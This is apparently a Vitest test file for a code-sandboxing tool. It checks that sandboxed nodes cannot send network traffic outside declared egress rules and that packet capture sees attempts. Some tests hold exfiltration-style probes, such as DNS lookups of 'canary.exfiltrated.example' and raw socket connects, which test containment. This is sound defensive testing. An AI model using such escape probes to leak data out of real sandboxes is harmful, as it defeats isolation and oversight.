import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { attempting, gains } from '../support/attempts.ts';
import { type CapturedNetwork, openCapturedNetwork } from '../support/captured-network.ts';
import { useCli } from '../support/use-cli.ts';
import { settle, waysOut } from '../support/ways-out.ts';

/** The host's side and the cell, whole, where every packet that either sends is seen. */
const cli = useCli();
let network: CapturedNetwork;
beforeEach(async () => {
  network = await openCapturedNetwork();
});
afterEach(() => network.end().catch(() => undefined));

/** The names lead to addresses of the world: no table of special uses is what keeps them from being asked. */
const hosts = { 'declared.example': '9.9.9.9', 'undeclared.example': '9.9.9.10' };

beforeAll(async () => {
  const { dataDir } = cli();
  mkdirSync(dataDir, { recursive: true, mode: 0o700 });
  writeFileSync(join(dataDir, 'glovebox.yaml'), JSON.stringify({ egress: { hosts } }), { mode: 0o600 });
  const rules = [{ host: 'declared.example', methods: ['GET'], paths: ['/**'], reason: 'a test' }];
  await cli().node('declares', {
    id: 'declares',
    body: `return await ctx.fetch(ctx.input.url, { signal: AbortSignal.timeout(2000) }).then(() => 'answered', (error) => error.code ?? error.name);`,
    manifest: { capabilities: { http: { rules } } },
  });
  // To all that the host's network leads to, by addresses and by names that nobody knows.
  const world = {
    ...waysOut,
    'dns.lookup of a name that says much': `return await builtin('dns').promises.lookup('canary.exfiltrated.example')`,
  };
  await cli().node('silent', {
    id: 'silent',
    ...attempting(world, `const settle = ${settle};`),
    manifest: { resources: { timeout: '60s' } },
  });
});

async function run(name: string, input: object): Promise<unknown> {
  const args = ['node', 'run', name, '--trial', '--json', '--input', JSON.stringify(input)];
  const ran = await cli().run(args, { through: network.through });
  expect(ran.code, ran.stdout + ran.stderr).toBe(0);
  return ran.json().output;
}

describe('of a node without http', () => {
  it('no packet leaves by any way, neither from its cell nor from its host', async () => {
    const input = { tcp: 80, udp: 53, path: '/run/nothing.sock', abstractName: 'nothing', address: '198.51.100.1' };
    const output = await run('silent', input);
    expect(Object.keys(output as object).length).toBeGreaterThan(Object.keys(waysOut).length);
    expect(gains(output)).toEqual({});
    await sleep(500);
    expect(await network.end()).toEqual([]);
  });
});

describe('where packets are captured', () => {
  it('a declared request is seen, and one that is not declared is not', async () => {
    expect(await run('declares', { url: 'http://undeclared.example/' })).toBe('EGRESS_DENIED');
    expect(await run('declares', { url: 'https://declared.example/' })).not.toBe('answered');
    const packets = await network.end();
    expect(packets.filter((line) => line.includes('> 9.9.9.9.443: tcp'))).not.toEqual([]);
    expect(packets.filter((line) => !line.includes('9.9.9.9.443'))).toEqual([]);
  });

  it('the ways of a node are seen where they are tried outside of a cell', async () => {
    const program = `
      const { createSocket } = require('node:dgram'); const { connect } = require('node:net'); const { Resolver } = require('node:dns');
      createSocket('udp4').send('x', 53, '127.0.0.1'); connect(80, '1.1.1.1').on('error', () => {}); connect(443, '127.0.0.1').on('error', () => {});
      const resolver = new Resolver({ timeout: 100, tries: 1 }); resolver.setServers(['9.9.9.9']); resolver.resolve4('canary.exfiltrated.example', () => {});
      setTimeout(() => process.exit(0), 500);`;
    const [command = '', ...args] = network.through;
    expect(spawnSync(command, [...args, process.execPath, '-e', program], { env: {} }).status).toBe(0);
    const packets = (await network.end()).join('\n');
    expect(packets).toMatch(/> 127\.0\.0\.1\.53: UDP/);
    expect(packets).toMatch(/> 1\.1\.1\.1\.80: tcp/);
    expect(packets).toMatch(/> 127\.0\.0\.1\.443: tcp/);
    expect(packets).toMatch(/> 9\.9\.9\.9\.53: /);
  });
});
